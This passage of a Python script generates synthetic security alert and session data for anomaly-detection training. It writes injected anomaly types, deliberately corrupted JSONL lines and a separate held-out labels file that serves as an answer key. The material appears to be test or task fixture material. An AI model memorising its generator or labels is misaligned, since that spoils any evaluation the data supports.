            bytes_out, bytes_in = rng.randint(2_000, 20_000), rng.randint(5_000, 50_000)
            src = public_ip(rng)
        elif anomaly_kind == "lateral":
            hosts = rng.randint(40, 150)
        elif anomaly_kind == "marathon":
            duration = rng.uniform(54000, 86400)
            bytes_in = loguniform(rng, 5_000_000_000, 50_000_000_000)
    t = START + day * 86400 + hour * 3600 + rng.randint(0, 3599) + rng.randint(0, 999) / 1000
    return t, {
        "_time": f"{t:.3f}",
        "src_ip": src,
        "duration_s": f"{duration:.1f}",
        "bytes_out": str(bytes_out),
        "bytes_in": str(bytes_in),
        "failed_logins": str(failed),
        "distinct_hosts": str(hosts),
        "is_anomaly": "0" if anomaly_kind is None else "1",
    }


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--out", default=os.path.dirname(os.path.abspath(__file__)),
                    help="output directory (default: the script's directory)")
    out = ap.parse_args().out
    os.makedirs(out, exist_ok=True)

    rng = random.Random(SEED)
    people = build_people(rng)
    alerts = [make_alert(rng, people) for _ in range(N_TRAIN + N_NEW)]
    held_out = set(rng.sample(range(len(alerts)), N_NEW))
    train = sorted((alerts[i] for i in range(len(alerts)) if i not in held_out), key=lambda ta: ta[0])
    new = sorted((alerts[i] for i in sorted(held_out)), key=lambda ta: ta[0])
    train = [a for _, a in train]
    new = [a for _, a in new]

    with open(os.path.join(out, "alerts_train.csv"), "w", newline="", encoding="utf-8") as f:
        w = csv.DictWriter(f, fieldnames=FIELDS + ["is_incident"], lineterminator="\n")
        w.writeheader()
        for a in train:
            w.writerow(csv_row(a))

    with open(os.path.join(out, "alerts_new.jsonl"), "w", newline="\n", encoding="utf-8") as f:
        for line_no, a in enumerate(new, start=1):
            obj = json_obj(a)
            if line_no == BAD_VALUES:
                obj["bytes_out"] = "NaN"
                obj["src_ip"] = "not-an-ip"
            elif line_no == BAD_SPARSE:
                obj = {k: obj[k] for k in ("_time", "source", "signature")}
            text = json.dumps(obj, ensure_ascii=False)
            if line_no == BAD_TRUNCATED:
                text = text[:16]
            f.write(text + "\n")

    with open(os.path.join(out, "alerts_new_labels.csv"), "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(["line", "is_incident"])
        for line_no, a in enumerate(new, start=1):
            w.writerow([line_no, a["is_incident"]])

    srng = random.Random(SEED + 1)
    kinds = [None] * (N_SESSIONS - N_SESSION_ANOMALIES)
    for i in range(N_SESSION_ANOMALIES):
        kinds.append(("exfil", "brute", "lateral", "marathon")[i % 4])
    srng.shuffle(kinds)
    sessions = sorted((make_session(srng, k) for k in kinds), key=lambda ts: ts[0])
    with open(os.path.join(out, "sessions_train.csv"), "w", newline="", encoding="utf-8") as f:
        cols = ["_time", "src_ip", "duration_s", "bytes_out", "bytes_in",
                "failed_logins", "distinct_hosts", "is_anomaly"]
        w = csv.DictWriter(f, fieldnames=cols, lineterminator="\n")
        w.writeheader()
        for _, s in sessions:
            w.writerow(s)

    pos_train = sum(a["is_incident"] for a in train) / len(train)
    pos_new = sum(a["is_incident"] for a in new) / len(new)
    print(f"alerts_train.csv      {len(train)} rows, {pos_train:.1%} incidents")
    print(f"alerts_new.jsonl      {len(new)} lines, {pos_new:.1%} incidents "
          f"(bad lines {BAD_TRUNCATED}, {BAD_VALUES}, {BAD_SPARSE})")
    print(f"alerts_new_labels.csv {len(new)} rows")
    print(f"sessions_train.csv    {len(sessions)} rows, {N_SESSION_ANOMALIES} anomalies")


if __name__ == "__main__":
    main()
